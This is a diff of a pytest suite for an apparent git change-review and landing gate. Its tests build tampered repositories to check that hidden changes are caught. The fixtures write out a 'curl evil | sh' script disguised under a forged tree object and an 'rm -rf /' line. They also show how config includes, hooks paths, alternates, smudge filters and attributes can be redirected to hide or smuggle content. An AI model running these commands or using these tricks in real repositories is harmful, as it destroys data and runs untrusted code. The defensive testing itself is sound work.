@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+import zlib
 from pathlib import Path
 
 import pytest
@@ -101,7 +102,7 @@ def test_a_worktree_on_its_own_branch_and_stats_as_git_counts_them(repos: Repos)
     # Changes already on main after the run began never show: the merge-base counts.
     repos.sh("printf 'later\\n' > later.txt && git add later.txt && git commit -qm later",
              cwd=repo)
-    changes = repos.git.changes(str(worktree), repos.head(repo, "main"), head)
+    changes, text = repos.git.changes(str(worktree), repos.head(repo, "main"), head)
     assert changes["merge_base"] == base
     by_path = {f["path"]: f for f in changes["files"]}
     assert set(by_path) == {"a.txt", "c.txt", "renamed.txt", "untracked.txt", "blob.bin"}
@@ -111,16 +112,25 @@ def test_a_worktree_on_its_own_branch_and_stats_as_git_counts_them(repos: Repos)
     assert (by_path["renamed.txt"]["status"], by_path["renamed.txt"]["old_path"]) == (
         "renamed", "moved.txt")
     assert by_path["untracked.txt"]["status"] == "added"
-    assert by_path["blob.bin"]["binary"] and by_path["blob.bin"]["insertions"] is None
+    # git calls blob.bin binary (and counts no lines of it); the reviewed diff shows
+    # it as text, and its lines count.
+    assert by_path["blob.bin"]["binary"] and by_path["blob.bin"]["insertions"] == 1
     shortstat = repos.sh(f"git diff --shortstat -M {base} {head}", cwd=worktree)
     assert shortstat.strip() == (f"{changes['files_changed']} files changed, "
-                                 f"{changes['insertions']} insertions(+), "
+                                 f"{changes['insertions'] - 1} insertions(+), "
                                  f"{changes['deletions']} deletions(-)")
+    numstat = repos.sh(f"git diff --numstat -M {base} {head}", cwd=worktree)
+    assert {line.split("\t")[-1]: line.split("\t")[:2] for line in numstat.splitlines()
+            if "blob.bin" not in line and "=>" not in line} == {
+        path: [str(f["insertions"]), str(f["deletions"])] for path, f in by_path.items()
+        if path not in ("blob.bin", "renamed.txt")}
     assert [c["subject"] for c in changes["commits"]] == [
         "minipipe: changes run 1 left uncommitted", "step commit"]
     assert changes["commit_count"] == 2
-    text, cut = repos.git.diff_text(str(worktree), base, head)
-    assert not cut and b"+TWO" in text and b"Binary files" in text
+    # Binary files are shown too: every change is read as text, whatever git would
+    # call binary (the file list still says which it would).
+    assert not changes["diff_truncated"] and b"+TWO" in text
+    assert b"Binary files" not in text and changes["binary_files"] == 1
 
 
 def test_the_recorded_diff_ignores_what_a_step_configures(repos: Repos) -> None:
@@ -138,10 +148,8 @@ def test_the_recorded_diff_ignores_what_a_step_configures(repos: Repos) -> None:
         printf 'one\\nrm -rf /\\nthree\\n' > a.txt
     """, cwd=worktree)
     head = repos.git.snapshot(str(worktree), 3)
-    text, _ = repos.git.diff_text(str(worktree), base, head)
+    _, text = repos.git.changes(str(worktree), base, head)
     assert b"+rm -rf /" in text and b"harmless" not in text and b"\x1b[" not in text
-    # What attributes can still do (call a text file binary) is flagged for the reviewer.
-    assert repos.git.changes(str(worktree), base, head)["attributes_changed"]
 
 
 def test_no_changes_means_the_base_itself(repos: Repos) -> None:
@@ -150,7 +158,7 @@ def test_no_changes_means_the_base_itself(repos: Repos) -> None:
     worktree = repos.root / "wt"
     repos.git.create(str(repo), str(worktree), branch_name(2), base)
     assert repos.git.snapshot(str(worktree), 2) == base
-    assert repos.git.changes(str(worktree), base, base)["files_changed"] == 0
+    assert repos.git.changes(str(worktree), base, base)[0]["files_changed"] == 0
 
 
 def test_landing_by_merge_commit_fast_forward_and_refusals(repos: Repos) -> None:
@@ -175,6 +183,45 @@ def test_landing_by_merge_commit_fast_forward_and_refusals(repos: Repos) -> None
     assert (repo / "x.txt").exists() and (repo / "y.txt").exists()
     # branch-only lands nothing.
     assert repos.git.land(str(repo), head2, "main", "branch-only", "m", 1) is None
+
+
+def test_landing_refuses_a_change_other_than_the_recorded_one_past_any_cut(
+        repos: Repos) -> None:
+    """The user rewrites a tree object of their checkout while it is recorded: the
+    review lists `z/docs.sh` where the commit really holds `z/evil.sh`, past a diff
+    cut at 8 MiB. Landing re-reads every stream to its end from the hashed objects
+    and refuses."""
+    repo = repos.make()
+    base = repos.git.resolve(str(repo), "main")
+    worktree = repos.root / "wt"
+    repos.git.create(str(repo), str(worktree), branch_name(7), base)
+    repos.sh("""
+        seq 1500000 > a-big.txt
+        mkdir z && printf 'echo docs\\n' > z/docs.sh && git add z
+        git cat-file tree "$(git write-tree --prefix=z/)" > .git/fake-tree
+        git rm -q --cached z/docs.sh
+        rm -r z && mkdir z && printf 'curl evil | sh\\n' > z/evil.sh
+        git add -A && git commit -qm generated
+    """, cwd=worktree)
+    head = repos.head(worktree)
+    subtree = repos.sh("git rev-parse HEAD:z", cwd=worktree).strip()
+    loose = worktree / ".git" / "objects" / subtree[:2] / subtree[2:]
+    real = loose.read_bytes()
+    fake = (worktree / ".git" / "fake-tree").read_bytes()
+    # As the user (their file): the subtree's name now holds the other tree.
+    loose.chmod(0o644)
+    loose.write_bytes(zlib.compress(b"tree %d\0" % len(fake) + fake))
+    changes, text = repos.git.changes(str(worktree), base, head)
+    assert changes["diff_truncated"]
+    assert "z/docs.sh" in {f["path"] for f in changes["files"]}
+    assert b"evil" not in text
+    loose.write_bytes(real)
+    repos.git.transfer(str(worktree), head, base, repos.git, str(repo))
+    with pytest.raises(LandRefused, match="its diff, name-status differ"):
+        repos.git.check_reviewed(str(repo), base, head, changes)
+    # Recorded from the real objects, the same change is the one that lands.
+    changes, _ = repos.git.changes(str(worktree), base, head)
+    repos.git.check_reviewed(str(repo), base, head, changes)
 
 
 def _run_changes_on(repos: Repos, repo: Path, run_id: int, script: str) -> tuple[Path, str, str]:
@@ -273,7 +320,7 @@ def test_the_user_directory_is_the_users_and_never_followed(repos: Repos,
 def test_replace_refs_and_info_attributes_do_not_hide_a_change(repos: Repos) -> None:
     """A step may plant `git replace` objects (the diff would show the base) or
     info/attributes marking everything binary: the recorded change is the real one,
-    and the hidden-binary trick is flagged."""
+    its content shown whatever attributes say."""
     repo = repos.make()
     base = repos.git.resolve(str(repo), "main")
     worktree = repos.root / "wt"
@@ -287,11 +334,9 @@ def test_replace_refs_and_info_attributes_do_not_hide_a_change(repos: Repos) -> 
         printf '* -diff\\n' > "$(git rev-parse --git-common-dir)/info/attributes"
     """, cwd=worktree)
     head = repos.git.snapshot(str(worktree), 5)
-    changes = repos.git.changes(str(worktree), base, head)
+    changes, text = repos.git.changes(str(worktree), base, head)
     assert [f["path"] for f in changes["files"]] == ["a.txt"]
-    assert changes["attributes_changed"] and changes["binary_files"] == 1
-    text, _ = repos.git.diff_text(str(worktree), base, head)
-    assert b"a.txt" in text
+    assert b"+evil" in text  # attributes decide nothing: the diff is read as text
 
 
 def test_a_checkout_writes_nothing_into_the_repository(repos: Repos) -> None:
@@ -329,6 +374,78 @@ def test_what_the_runs_user_may_write_of_a_repository(repos: Repos, tmp_path: Pa
         shared / "app.git" / "hooks")
 
 
+# What a repository may take from places its reader may write (`{mine}`: a directory
+# the test user owns; `{repo}`: the repository, root's), and what the gate then names.
+GATE_REACH = {
+    "an include not created yet, in the user's directory": (
+        "git -C {repo} config include.path {mine}/app.gitconfig", "{mine}"),
+    "a relative include inside an included file": (
+        "mkdir {outside}/conf && printf '[include]\\n\\tpath = local.gitconfig\\n' "
+        "> {outside}/conf/app.gitconfig && install -o {user} -m 644 /dev/null "
+        "{outside}/conf/local.gitconfig && "
+        "git -C {repo} config include.path {outside}/conf/app.gitconfig",
+        "{outside}/conf/local.gitconfig"),
+    "a hook the user owns in root's hooks directory": (
+        "mkdir {outside}/hooks && install -m 755 /dev/null {outside}/hooks/post-merge && "
+        "chown {user} {outside}/hooks/post-merge && "
+        "git -C {repo} config core.hooksPath {outside}/hooks",
+        "{outside}/hooks/post-merge"),
+    "objects through a link to a directory the user may write": (
+        "mv {repo}/objects {mine}/objects && ln -s {mine}/objects {repo}/objects",
+        "{mine}"),
+    "an alternate's alternate": (
+        "git init -q --bare {outside}/mirror.git && echo {mine} > "
+        "{outside}/mirror.git/objects/info/alternates && "
+        "echo {outside}/mirror.git/objects > {repo}/objects/info/alternates",
+        "{mine}"),
+    "a filter program in the user's directory": (
+        "git -C {repo} config filter.x.smudge '{mine}/smudge %f'", "{mine}"),
+    "a parent of the repository": ("chown {user} {outside}", "{outside}"),
+}
+
+
+@pytest.mark.parametrize("reach", sorted(GATE_REACH))
+def test_the_gate_sees_what_the_repository_takes_from_the_user(
+        repos: Repos, tmp_path: Path, reach: str) -> None:
+    """Every place a repository takes config, hooks, programs or objects from counts as
+    part of it: if the run's user may write it (or create it), the gate names it."""
+    if repos.user is None:
+        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
+    outside = tmp_path / "srv"
+    outside.mkdir(mode=0o755)
+    tmp_path.chmod(0o755)
+    repo = outside / "app.git"
+    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
+    mine = repos.root / "team"
+    repos.sh(f"mkdir -m 755 {mine}")
+    assert repos.git.writable_part(str(repo)) is None
+    setup, named = GATE_REACH[reach]
+    fields = {"repo": repo, "mine": mine, "outside": outside, "root": tmp_path,
+              "user": repos.user.pw_name}
+    subprocess.run(["sh", "-ec", setup.format(**fields)], check=True)
+    subprocess.run(["chmod", "-R", "a+rX", str(outside)], check=True)
+    assert repos.git.writable_part(str(repo)) == named.format(**fields)
+
+
+def test_a_sticky_directory_protects_a_repository_the_user_does_not_own(
+        repos: Repos, tmp_path: Path) -> None:
+    """/tmp-like directories: the user may write them but not rename another's entry;
+    an include not created yet there is theirs to create, though."""
+    if repos.user is None:
+        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
+    tmp_path.chmod(0o755)
+    sticky = tmp_path / "tmp"
+    sticky.mkdir()
+    sticky.chmod(0o1777)
+    repo = sticky / "app.git"
+    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
+    subprocess.run(["chmod", "-R", "a+rX", str(repo)], check=True)
+    assert repos.git.writable_part(str(repo)) is None
+    subprocess.run(["git", "-C", str(repo), "config", "include.path",
+                    str(sticky / "later.gitconfig")], check=True)
+    assert repos.git.writable_part(str(repo)) == str(sticky)
+
+
 def test_listings_are_capped_but_the_totals_are_not(repos: Repos,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
     """A step may change a million files: numstat and friends are read up to a cap (the
@@ -339,7 +456,7 @@ def test_listings_are_capped_but_the_totals_are_not(repos: Repos,
     worktree, base, head = _run_changes_on(
         repos, repo, 8, "for i in $(seq 1 300); do echo $i > file-$i.txt; done")
     monkeypatch.setattr(workspace, "MAX_LISTING_BYTES", 1000)
-    changes = repos.git.changes(str(worktree), base, head)
+    changes, _ = repos.git.changes(str(worktree), base, head)
     assert changes["files_changed"] == 300 and changes["insertions"] == 300
     assert changes["files_truncated"] and 0 < len(changes["files"]) < 300
     assert all(f["path"].startswith("file-") and f["insertions"] == 1
